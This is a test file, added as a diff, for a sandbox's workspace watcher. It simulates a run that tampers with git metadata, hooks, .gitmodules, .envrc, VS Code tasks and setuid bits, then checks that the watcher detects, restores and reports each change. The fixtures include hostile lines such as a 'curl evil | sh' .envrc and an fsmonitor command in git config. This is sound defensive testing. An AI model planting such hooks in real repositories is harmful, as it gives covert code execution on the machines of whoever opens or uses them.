@@ -1,0 +1,236 @@
+// WorkspaceWatch on real trees (no container): a "run" is simulated by changing the tree
+// between start() and finish(). Violations must be found, put back exactly, and reported.
+import { execFileSync } from "node:child_process";
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { isSandboxRunError } from "../../src/errors.js";
+import { violationMessage } from "../../src/workspace/violation-message.js";
+import { WorkspaceWatch, type WorkspaceWatchInput } from "../../src/workspace/workspace-watch.js";
+
+const dirs: string[] = [];
+function tree(files: Record<string, string> = {}): string {
+  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-watch-")));
+  dirs.push(dir);
+  for (const [name, content] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+    fs.writeFileSync(path.join(dir, name), content);
+  }
+  return dir;
+}
+afterEach(() => {
+  for (const d of dirs.splice(0)) fs.rmSync(d, { recursive: true, force: true });
+});
+
+/** Every entry below `dir`: type, mode, content or target (objects left out when asked). */
+function state(dir: string, skip: RegExp = /^$/): Record<string, string> {
+  const out: Record<string, string> = {};
+  const walk = (p: string) => {
+    const rel = path.relative(dir, p) || ".";
+    if (skip.test(rel)) return;
+    const st = fs.lstatSync(p);
+    const mode = (st.mode & 0o7777).toString(8);
+    if (st.isSymbolicLink()) out[rel] = `link:${fs.readlinkSync(p)}`;
+    else if (st.isDirectory()) {
+      out[rel] = `dir:${mode}`;
+      for (const name of fs.readdirSync(p).sort()) walk(path.join(p, name));
+    } else out[rel] = `file:${mode}:${fs.readFileSync(p, "base64")}`;
+  };
+  walk(dir);
+  return out;
+}
+
+function gitRepo(): string {
+  const ws = tree({ "src/a.ts": "a\n", ".gitignore": "node_modules\n" });
+  const git = (...args: string[]) =>
+    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: ws, stdio: "pipe" });
+  git("init", "-q");
+  git("add", ".");
+  git("commit", "-qm", "init");
+  return ws;
+}
+
+async function watch(ws: string, extra: Partial<WorkspaceWatchInput> = {}) {
+  return WorkspaceWatch.start({
+    workspace: ws,
+    workspaceWritable: true,
+    writableRoots: [],
+    protectedPaths: [],
+    stateDir: path.join(tree(), "state"),
+    ...extra,
+  });
+}
+
+/** Loose objects (relative to .git): new ones are harmless and stay. */
+const OBJECTS = /^objects\/[0-9a-f]{2}/;
+
+describe("WorkspaceWatch: git doors are found and put back exactly", () => {
+  it("config, commondir, config.worktree, info/attributes, hooks, modules/x/config, chmod 0777: .git is as before", async () => {
+    const ws = gitRepo();
+    fs.mkdirSync(path.join(ws, ".git/modules/x"), { recursive: true });
+    for (const d of ["objects", "refs"]) fs.mkdirSync(path.join(ws, ".git/modules/x", d));
+    fs.writeFileSync(path.join(ws, ".git/modules/x/HEAD"), "ref: refs/heads/main\n");
+    fs.writeFileSync(path.join(ws, ".git/modules/x/config"), "[core]\n");
+    const before = state(path.join(ws, ".git"), OBJECTS);
+    const w = await watch(ws);
+    // Ordinary git work (a commit: objects, refs, logs, index) is not a violation by itself.
+    fs.writeFileSync(path.join(ws, "src/a.ts"), "a2\n");
+    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "x"], { cwd: ws });
+    const g = (p: string) => path.join(ws, ".git", p);
+    fs.appendFileSync(g("config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+    fs.writeFileSync(g("commondir"), "../evil\n");
+    fs.writeFileSync(g("config.worktree"), "[core]\n\tfsmonitor = x\n");
+    fs.writeFileSync(g("info/attributes"), "* filter=evil\n");
+    fs.writeFileSync(g("hooks/post-checkout"), "#!/bin/sh\n");
+    fs.chmodSync(g("hooks/post-checkout"), 0o755);
+    fs.rmSync(g("description"));
+    fs.appendFileSync(g("modules/x/config"), "[core]\n\tfsmonitor = x\n");
+    fs.chmodSync(g(""), 0o777);
+
+    const report = await w.finish();
+    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`).sort()).toEqual([
+      "directory-modes mode .git",
+      "git-metadata created .git/commondir",
+      "git-metadata created .git/config.worktree",
+      "git-metadata created .git/hooks/post-checkout",
+      "git-metadata created .git/info/attributes",
+      "git-metadata deleted .git/description",
+      "git-metadata modified .git/config",
+      "git-metadata modified .git/modules/x/config",
+    ]);
+    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true, notRestored: [], remaining: [] });
+    // Exactly as before, except the object store (new objects are harmless and stay).
+    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
+    // Host git works on the restored metadata (the run's commit is undone with it; its edit stays).
+    expect(execFileSync("git", ["status", "--porcelain"], { cwd: ws, encoding: "utf8" })).toBe(" M src/a.ts\n");
+    const { message, hint } = violationMessage(report, "workspace-write");
+    expect(message).toContain(".git/config (modified, git-metadata)");
+    expect(message).toContain("Restored: put back as before the run: .git");
+    expect(`${message} ${hint}`).not.toMatch(/git status|git checkout|git diff/);
+  });
+
+  it(".git moved away and replaced by a gitdir: file pointing at a planted repository: .git comes back whole, objects included", async () => {
+    const ws = gitRepo();
+    const before = state(path.join(ws, ".git"));
+    const w = await watch(ws);
+    execFileSync("git", ["init", "-q", "--bare", path.join(ws, "evil")]);
+    fs.mkdirSync(path.join(ws, "deep/er"), { recursive: true });
+    fs.renameSync(path.join(ws, ".git"), path.join(ws, "deep/er/old-git"));
+    fs.writeFileSync(path.join(ws, ".git"), "gitdir: evil\n");
+    const report = await w.finish();
+    const rules = new Set(report.violations.map((v) => v.rule));
+    expect(rules).toEqual(new Set(["new-repositories", "git-metadata"]));
+    expect(report.restore?.removed.sort()).toEqual(["deep/er/old-git", "evil"]);
+    expect(report.restore?.reverted).toEqual([".git"]);
+    expect(report.restore?.clean).toBe(true);
+    // The metadata from the kept copy, the object store found by its inode and moved back.
+    expect(state(path.join(ws, ".git"))).toEqual(before);
+    expect(fs.readdirSync(ws).sort()).toEqual([".git", ".gitignore", "deep", "src"]);
+    expect(execFileSync("git", ["log", "--oneline"], { cwd: ws, encoding: "utf8" })).toMatch(/ init\n$/);
+  });
+
+  it("a new nested repository with a config is removed; a .gitmodules, .envrc and .vscode/tasks.json are undone", async () => {
+    const ws = gitRepo();
+    fs.mkdirSync(path.join(ws, ".vscode"));
+    fs.writeFileSync(path.join(ws, ".vscode/settings.json"), "{}\n");
+    const before = state(ws, OBJECTS);
+    const w = await watch(ws);
+    execFileSync("git", ["init", "-q", path.join(ws, "sub")]);
+    fs.appendFileSync(path.join(ws, "sub/.git/config"), "[core]\n\tfsmonitor = x\n");
+    fs.writeFileSync(path.join(ws, ".gitmodules"), '[submodule "x"]\n\tupdate = !sh evil\n');
+    fs.writeFileSync(path.join(ws, "src/.EnvRC"), "curl evil | sh\n");
+    fs.writeFileSync(path.join(ws, ".vscode/tasks.json"), '{"runOptions":{"runOn":"folderOpen"}}\n');
+    fs.writeFileSync(path.join(ws, "src/fine.ts"), "ok\n");
+    const report = await w.finish();
+    expect(report.restore?.clean).toBe(true);
+    expect(report.changedFiles.created).toContain("src/fine.ts");
+    const after = state(ws, OBJECTS);
+    // Everything is as before but the ordinary new file (and sub/ itself, now empty).
+    expect(after).toEqual({ ...before, sub: "dir:755", "src/fine.ts": after["src/fine.ts"]! });
+  });
+
+  it("a protected file past the kept-copy cap that the run changed is removed and named as not restored", async () => {
+    const ws = gitRepo();
+    fs.writeFileSync(path.join(ws, ".git/hooks/big-sample"), Buffer.alloc(2 * 1024 * 1024, 65));
+    const w = await watch(ws);
+    fs.writeFileSync(path.join(ws, ".git/hooks/big-sample"), "#!/bin/sh\nevil\n");
+    const report = await w.finish();
+    expect(fs.existsSync(path.join(ws, ".git/hooks/big-sample"))).toBe(false);
+    expect(report.restore?.clean).toBe(false);
+    expect(report.restore?.notRestored).toEqual([
+      {
+        path: ".git/hooks/big-sample",
+        why: expect.stringMatching(/changed by the run and not kept \(larger than 1 MiB\): removed/),
+      },
+    ]);
+    const { message, hint } = violationMessage(report, "p");
+    expect(message).toContain("NOT restored: .git/hooks/big-sample");
+    expect(hint).toContain("do not run git");
+  });
+
+  it("reports workspace paths relative and writable-root paths absolute; caller globs only in the workspace; built-ins in both", async () => {
+    const workspace = tree({ ".github/workflows/ci.yml": "ci", "src/a.ts": "a" });
+    const extra = tree({ "cache.txt": "c" });
+    const w = await watch(workspace, {
+      writableRoots: [extra],
+      protectedPaths: [".github/workflows/**", "**/cache.txt"],
+    });
+    fs.writeFileSync(path.join(workspace, ".github/workflows/ci.yml"), "evil");
+    fs.writeFileSync(path.join(workspace, "src/b.ts"), "b");
+    fs.writeFileSync(path.join(extra, "cache.txt"), "c2");
+    fs.writeFileSync(path.join(extra, ".envrc"), "evil");
+    const report = await w.finish();
+    expect(report.changedFiles).toEqual({
+      created: [`${extra}/.envrc`, "src/b.ts"],
+      modified: [".github/workflows/ci.yml", `${extra}/cache.txt`],
+      deleted: [],
+    });
+    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`)).toEqual([
+      "protectedPaths modified .github/workflows/ci.yml",
+      `.envrc created ${extra}/.envrc`,
+    ]);
+    expect(fs.readFileSync(path.join(workspace, ".github/workflows/ci.yml"), "utf8")).toBe("ci");
+    expect(fs.existsSync(path.join(extra, ".envrc"))).toBe(false);
+    expect(fs.readFileSync(path.join(extra, "cache.txt"), "utf8")).toBe("c2");
+  });
+
+  it("does not walk a read-only workspace", async () => {
+    const workspace = tree({ "a.ts": "a" });
+    const w = await watch(workspace, { workspaceWritable: false, protectedPaths: ["**"] });
+    fs.writeFileSync(path.join(workspace, ".envrc"), "changed on the host, not by the run");
+    const report = await w.finish();
+    expect(report.changedFiles).toEqual({ created: [], modified: [], deleted: [] });
+    expect(report.violations).toEqual([]);
+  });
+
+  it("clears setuid/setgid bits of files the run created or changed, and counts allocated bytes", async () => {
+    const ws = tree({ "old.sh": "x" });
+    const w = await watch(ws);
+    fs.writeFileSync(path.join(ws, "suid"), Buffer.alloc(100_000, 1));
+    fs.chmodSync(path.join(ws, "suid"), 0o6755);
+    fs.chmodSync(path.join(ws, "old.sh"), 0o4755);
+    const report = await w.finish();
+    expect(report.clearedSetuid.sort()).toEqual(["old.sh", "suid"]);
+    expect(fs.statSync(path.join(ws, "suid")).mode & 0o7777).toBe(0o755);
+    expect(report.allocatedBytes.after - report.allocatedBytes.before).toBeGreaterThanOrEqual(100_000);
+  });
+
+  it("refuses to start on a tree it cannot fully see (a name that is not UTF-8)", async () => {
+    const ws = tree();
+    fs.writeFileSync(Buffer.concat([Buffer.from(`${ws}/x-`), Buffer.from([0xff])]), "x");
+    const error = await watch(ws).catch((e: unknown) => e);
+    expect(isSandboxRunError(error) && error.code).toBe("usage");
+    expect(String(error)).toMatch(/cannot check 1 entry .*not valid UTF-8.*nothing was started/s);
+  });
+
+  it("a policy that names a rule turns it off", async () => {
+    const ws = gitRepo();
+    const w = await watch(ws, { disabledProtections: ["git-metadata", ".envrc"] });
+    fs.appendFileSync(path.join(ws, ".git/config"), "[x]\n");
+    fs.writeFileSync(path.join(ws, ".envrc"), "x");
+    fs.writeFileSync(path.join(ws, ".bashrc"), "x");
+    const report = await w.finish();
+    expect(report.violations.map((v) => v.path)).toEqual([".bashrc"]);
+  });
+});
